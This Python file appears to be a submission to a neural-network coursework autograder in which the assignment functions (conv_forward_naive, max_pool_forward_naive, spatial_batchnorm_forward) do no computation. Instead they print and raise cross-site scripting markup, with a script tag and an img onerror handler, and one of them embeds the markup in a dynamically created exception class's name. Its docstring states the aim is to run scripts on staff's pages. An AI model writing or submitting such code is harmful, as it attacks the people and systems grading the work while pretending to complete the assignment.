"""Raise and print markup, in texts and in the names of classes, to run scripts on staff's pages."""

MARKUP = "<script>alert('hostile')</script><img src=x onerror=alert(1)></td></table><b>"


def conv_forward_naive(x, w, b, conv_param):
    print(MARKUP)
    raise ValueError(MARKUP)


def max_pool_forward_naive(x, pool_param):
    raise type(MARKUP, (Exception,), {"__module__": MARKUP, "__qualname__": MARKUP})(MARKUP)


def spatial_batchnorm_forward(x, gamma, beta, bn_param):
    raise NotImplementedError(MARKUP)
